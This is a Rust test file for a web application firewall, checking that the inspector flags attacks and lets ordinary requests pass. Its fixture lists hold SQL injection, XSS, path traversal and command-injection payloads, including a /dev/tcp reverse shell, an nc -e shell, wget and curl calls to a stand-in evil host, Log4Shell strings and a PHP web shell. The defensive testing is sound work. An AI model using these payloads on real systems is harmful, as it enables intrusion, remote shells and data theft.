use std::time::{Duration, Instant};

use http::header::{CONTENT_TYPE, COOKIE, REFERER, USER_AGENT};

use super::content::Kind;
use super::*;

fn plan() -> plan::Waf {
    plan::Waf {
        mode: WafMode::Block,
        default_rules: true,
        rules: Vec::new(),
        exclude: Vec::new(),
        max_body_bytes: 1 << 20,
    }
}

fn inspector() -> Inspector {
    Inspector::new(&plan()).unwrap()
}

fn names(hits: Vec<Hit>) -> Vec<String> {
    hits.into_iter().map(|hit| hit.rule).collect()
}

fn get(inspector: &Inspector, target: &str, fields: &[(http::HeaderName, &str)]) -> Vec<String> {
    let mut request = http::Request::builder().uri(target);
    for (name, value) in fields {
        request = request.header(name, *value);
    }
    names(inspector.head(&request.body(()).unwrap().into_parts().0))
}

/// A value as browsers encode it, unless it is encoded as it is.
fn encoded(value: &str) -> String {
    if value.contains('%') {
        return value.replace(' ', "+");
    }
    form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

const ATTACKS: &[(&str, &[&str])] = &[
    (
        "sqli",
        &[
            "1' or '1'='1",
            "1' OR 1=1--",
            "' or ''='",
            "admin'--",
            "admin' #",
            "1 or 1=1",
            "1) or (1=1",
            "1' and 1=2 union select 1,2,3--",
            "-1 UNION ALL SELECT null,version()",
            "1/**/union/**/select/**/password/**/from/**/users",
            "1 UnIoN%0aSeLeCt 1",
            "1;drop table users",
            "1; DROP TABLE users--",
            "1'; exec xp_cmdshell('dir')--",
            "1' and sleep(5)--",
            "1 and (select sleep(5))",
            "1';waitfor delay '0:0:5'--",
            "1 and benchmark(1000000,md5(1))",
            "' and extractvalue(1,concat(0x7e,version()))--",
            "1 and (select count(*) from users) > 0",
            "x' union select table_name from information_schema.tables--",
            "' having 1=1--",
            "1' order by 5--",
            "' or true--",
            "\" or \"a\"=\"a",
            "'||'1'='1",
            "1 or 1 like 1",
            "%2527%2520or%25201%253D1",
            "1' into outfile '/var/www/x.php",
            "1 union/*!50000select*/ 1",
        ],
    ),
    (
        "xss",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)",
            "\\u003cscript\\u003ealert(1)",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg onload=alert`1`>",
            "<body onpageshow=alert(1)>",
            "\" onmouseover=alert(1) x=\"",
            "\"><iframe src=//evil>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html,<h1>x",
            "\";alert(1)//",
            "'-alert(1)-'",
            "<a href=\"javascript:document.cookie\">",
            "<object data=x>",
            "<math><mtext onclick=alert(1)>",
            "{{constructor.constructor('alert(1)')()}}",
            "<details open ontoggle=alert(1)>",
            "&#60;script&#62;",
            "eval(atob('YQ=='))",
        ],
    ),
    (
        "traversal",
        &[
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%252e%252e%252fetc%252fpasswd",
            "..%c0%af..%c0%afetc/passwd",
            "/etc/passwd",
            "/proc/self/environ",
            "php://filter/convert.base64-encode/resource=index",
            "....//....//etc/hosts",
            "..;/..;/manager",
            "C:\\windows\\system32\\drivers\\etc",
            "file:///etc/hosts",
        ],
    ),
    (
        "command",
        &[
            "; cat /etc/hosts",
            "x; ls -la",
            "x | id",
            "x|whoami",
            "`id`",
            "$(id)",
            "x && curl http://evil",
            "x; wget http://evil/x.sh",
            "127.0.0.1; ping -c 1 evil",
            "x;cat${IFS}/etc/hosts",
            "() { :; }; /bin/bash -c id",
            "${jndi:ldap://evil/a}",
            "${${lower:j}ndi:ldap://evil}",
            "${${::-j}${::-n}di:x}",
            "{{7*7}}",
            "{{ config.items() }}",
            "{{ ''.__class__.__mro__ }}",
            "${7*7}",
            "<?php system($_GET['c']); ?>",
            "bash -i >& /dev/tcp/10.0.0.1/80",
            "x; sleep 5",
            "a|nc -e /bin/sh 10.0.0.1 4444",
        ],
    ),
];

#[test]
fn attacks_are_found_wherever_they_are() {
    let inspector = inspector();
    let mut missed = Vec::new();
    for (group, attacks) in ATTACKS {
        for attack in *attacks {
            let hits = get(&inspector, &format!("/search?page=1&q={}", encoded(attack)), &[]);
            if !hits.iter().any(|rule| rule.starts_with(group)) {
                missed.push(format!("query: {attack} {hits:?}"));
            }
            let json = serde_json::json!({"user": {"list": ["ordinary", attack]}}).to_string();
            if inspector.body(&Kind::Json, json.as_bytes()).is_empty() && *attack != "..;/..;/manager" {
                missed.push(format!("json: {attack}"));
            }
            let form = format!("a=b&comment={}", encoded(attack));
            if inspector.body(&Kind::Form, form.as_bytes()).is_empty() && *attack != "..;/..;/manager" {
                missed.push(format!("form: {attack}"));
            }
            let part = format!("--B\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n{attack}\r\n--B--\r\n");
            if inspector
                .body(&Kind::Multipart(b"B".to_vec()), part.as_bytes())
                .is_empty()
                && *attack != "..;/..;/manager"
            {
                missed.push(format!("multipart: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn attacks_in_fields_and_paths() {
    let inspector = inspector();
    for (target, fields, rule) in [
        ("/.git/config", &[][..], "scanner.path"),
        ("/a/.env", &[], "scanner.path"),
        ("/wp-login.php", &[], "scanner.path"),
        ("/a/%2e%2e/b", &[], "traversal.dots"),
        ("/a/..%2f..%2fetc/passwd", &[], "traversal.file"),
        ("/x'%20or%20'1'='1", &[], "sqli.tautology"),
        (
            "/",
            &[(USER_AGENT, "sqlmap/1.7.2#stable (https://sqlmap.org)")],
            "scanner.agent",
        ),
        ("/", &[(USER_AGENT, "Mozilla/5.00 (Nikto/2.1.6)")], "scanner.agent"),
        ("/", &[(USER_AGENT, "() { :;}; /bin/bash -c 'id'")], "command.expand"),
        ("/", &[(REFERER, "https://x/?${jndi:ldap://e/a}")], "command.jndi"),
        ("/", &[(COOKIE, "a=1; session=' or '1'='1")], "sqli.tautology"),
    ] {
        let hits = get(&inspector, target, fields);
        assert!(hits.iter().any(|hit| hit == rule), "{target} {fields:?}: {hits:?}");
    }
}

/// What people and programs send all day.
const ORDINARY: &[&str] = &[
    "hello world",
    "O'Reilly's book on SQL",
    "it's 5 o'clock and I'm here",
    "rock 'n' roll and 'n' more",
    "select a gift from our shop",
    "please select one and order by friday",
    "union square, San Francisco",
    "the student union selects a new president",
    "drop table tennis; it is boring",
    "update your profile; set a password",
    "1 + 1 = 2 and 2 + 2 = 4",
    "x > 5 and y < 3",
    "price between 10 and 20 or free",
    "either this or that = fine",
    "C# and C++ programming",
    "\"quoted\" -- an author",
    "2024-01-01 -- 2024-12-31",
    "Tom & Jerry; cats & dogs",
    "bread & butter; cat food; more",
    "a | b | c",
    "R&D budget (2024) #1",
    "<3 you & me",
    "if a < b then c > d",
    "<b>bold</b> and <a href=\"https://example.com/on=1\">link</a>",
    "<p class=\"intro\">An <em>ordinary</em> comment.</p>",
    "JavaScript: the good parts",
    "how do I call alert() in javascript?",
    "print(\"hello\"); return 0;",
    "$(document).ready(function() { init(); })",
    "https://example.com/a/b?c=d&e=f#g",
    "/home/user/file.txt",
    "../images/logo.png",
    "see ./docs/README.md",
    "100% sure, 50%off",
    "name@example.com",
    "+49 (0)30 123456",
    "{{ title }}",
    "${name}",
    "Müller & Söhne GmbH",
    "日本語のテキスト",
    "the system administrator and the user = friends",
    "find the right sh*t; head to the shop",
    "id; name; value",
    "Is 3 or 4 in (the) list?",
    "WHERE did you go? FROM home",
    "sleep (8 hours) or exercise",
    "on load = heavy",
    "let x = a ? b : c; // comment",
    "/* a comment */ body { margin: 0 }",
    "a and b or c",
    "'a' and 'b'",
    "say 'yes' or 'no'",
    "I like cats and is he in?",
    "5' 10\" and 6' 2\"",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "QmFzZTY0IGlzIGZ1bg==",
    "scripted <-> scripting",
    "nessus of Shakespeare",
    "where x = 'y' is written",
    "type: text; version 2",
    "more; less; none",
    "Q1 & Q2; host a party",
    "you can; type in the box",
];

#[test]
fn ordinary_requests_pass() {
    let inspector = inspector();
    let mut found = Vec::new();
    for text in ORDINARY {
        let mut look = |place: &str, hits: Vec<String>| {
            // One step up in a query is a finding that is meant.
            let meant = place == "query" && *text == "../images/logo.png";
            if !hits.is_empty() && !meant {
                found.push(format!("{place}: {text}: {hits:?}"));
            }
        };
        look(
            "query",
            get(&inspector, &format!("/search?q={}&id=5&ls&cat=7", encoded(text)), &[]),
        );
        let json = serde_json::json!({"op": "or", "x": 1, "list": ["and", text], "select": "*", (*text): true});
        look("json", names(inspector.body(&Kind::Json, json.to_string().as_bytes())));
        look(
            "form",
            names(inspector.body(&Kind::Form, format!("a={}&b=1", encoded(text)).as_bytes())),
        );
        look("text", names(inspector.body(&Kind::Text, text.as_bytes())));
    }
    for target in [
        "/",
        "/index.html",
        "/.well-known/acme-challenge/x",
        "/a/b/c.min.js?v=1.2.3",
        "/api/v1/users/42/orders?sort=-created&filter[status]=open&fields=id,name",
        "/graphql?query=%7B%20user(id:%201)%20%7B%20name%20%7D%20%7D",
        "/login?next=/admin/page&x=1",
        "/oauth/callback?code=4/0AX4XfWh&state=a%3Db%26c&scope=openid%20email",
        "/environment/.../x",
        "/search?q=a..b&range=1..10",
        "/redirect?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2",
    ] {
        let fields = [
            (
                USER_AGENT,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            ),
            (
                http::header::ACCEPT,
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
            ),
            (http::header::ACCEPT_LANGUAGE, "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"),
            (http::header::ACCEPT_ENCODING, "gzip, deflate, br, zstd"),
            (
                http::HeaderName::from_static("sec-ch-ua"),
                "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"",
            ),
            (COOKIE, "id=5; sh=1; cat=2; _ga=GA1.2.3.4; prefs={\"a\":1}; theme=dark"),
            (REFERER, "https://example.com/a?b=c&d=e"),
            (http::header::IF_NONE_MATCH, "W/\"abc-123\""),
            (http::header::AUTHORIZATION, "Bearer eyJhbGciOi.J9.x"),
        ];
        let hits = get(&inspector, target, &fields);
        if !hits.is_empty() {
            found.push(format!("{target}: {hits:?}"));
        }
    }
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn exceptions_and_own_rules() {
    let mut plan = plan();
    plan.exclude = vec!["sqli".into(), "xss.script".into()];
    plan.rules = vec![plan::WafRule {
        name: "no-foo".into(),
        pattern: r"\bFoo\b".into(),
        targets: vec![WafTarget::Query],
    }];
    let inspector = Inspector::new(&plan).unwrap();
    assert!(get(&inspector, "/?q=1'+or+'1'='1", &[]).is_empty());
    assert!(get(&inspector, "/?q=%3Cscript%3E", &[]).is_empty());
    assert_eq!(get(&inspector, "/?q=a+Foo", &[]), ["no-foo"]);
    assert!(
        get(&inspector, "/?q=a+foo", &[]).is_empty(),
        "only our own rules are without case"
    );
    assert!(get(&inspector, "/Foo", &[]).is_empty());
    assert!(!get(&inspector, "/?q=%3Csvg/onload=x%3E", &[]).is_empty());
}

#[test]
fn broken_rules_are_named() {
    for pattern in ["(", "a(?=b)", r"(a)\1", "(?:(?:a{1000}){1000}){1000}"] {
        let mut plan = plan();
        plan.rules = vec![plan::WafRule {
            name: "mine".into(),
            pattern: pattern.into(),
            targets: TARGETS.to_vec(),
        }];
        let error = Inspector::new(&plan).err().unwrap();
        assert_eq!(error.code, "WAF_RULE_INVALID");
        assert!(error.message.contains("\"mine\""), "{error}");
    }
}

#[test]
fn bodies_are_taken_apart() {
    let kind = |value: &str| Kind::of(&[(CONTENT_TYPE, value.parse().unwrap())].into_iter().collect());
    assert_eq!(kind("application/x-www-form-urlencoded; charset=utf-8"), Kind::Form);
    assert_eq!(kind("Application/Problem+JSON"), Kind::Json);
    assert_eq!(
        kind("multipart/form-data; boundary=\"aB c\""),
        Kind::Multipart(b"aB c".to_vec())
    );
    assert_eq!(kind("image/png"), Kind::Binary);
    assert_eq!(kind("text/xml"), Kind::Text);

    let inspector = inspector();
    let part = |content: &[u8]| {
        let head = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.png\"\r\n\r\n";
        [&head[..], content, b"\r\n--B--"].concat()
    };
    let multipart = Kind::Multipart(b"B".to_vec());
    assert!(inspector.body(&multipart, &part(b"<script>")).len() == 1);
    assert!(inspector.body(&multipart, &part(b"\x89PNG\x00<script>")).is_empty());
    let name = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x\"\r\n\r\n\r\n--B--";
    assert!(!inspector.body(&multipart, name).is_empty());
    // What was cut off is read as it is.
    assert!(!inspector.body(&Kind::Json, br#"{"a": "<script>"#).is_empty());
    let deep = format!("{}\"<script>\"", "[".repeat(10_000));
    assert!(!inspector.body(&Kind::Json, deep.as_bytes()).is_empty());
}

/// A megabyte of what makes regular expressions that go back take for ever.
#[test]
fn hostile_bodies_take_time_in_proportion() {
    let inspector = inspector();
    let baits = [
        "<a ",
        "<a on",
        "select ",
        "union ",
        "' or ",
        "1 or 1",
        "${",
        "${${",
        "(select ",
        "((((",
        "../",
        "; ",
        "\"'",
        "<!entity ",
        "/*",
        "a",
        "select a from ",
        "() { ",
        "&#",
        "extractvalue(",
        "j a v a s ",
    ];
    let time = |bait: &str, size: usize| {
        let body = bait.repeat(size / bait.len());
        let began = Instant::now();
        inspector.body(&Kind::Text, body.as_bytes());
        began.elapsed()
    };
    for bait in baits {
        time(bait, 1 << 16);
        let small = (0..3).map(|_| time(bait, 1 << 17)).min().unwrap();
        let large = time(bait, 1 << 20);
        assert!(large < Duration::from_secs(5), "{bait}: {large:?}");
        assert!(
            large < small * 40 + Duration::from_millis(50),
            "{bait}: {small:?}, {large:?}"
        );
    }
}
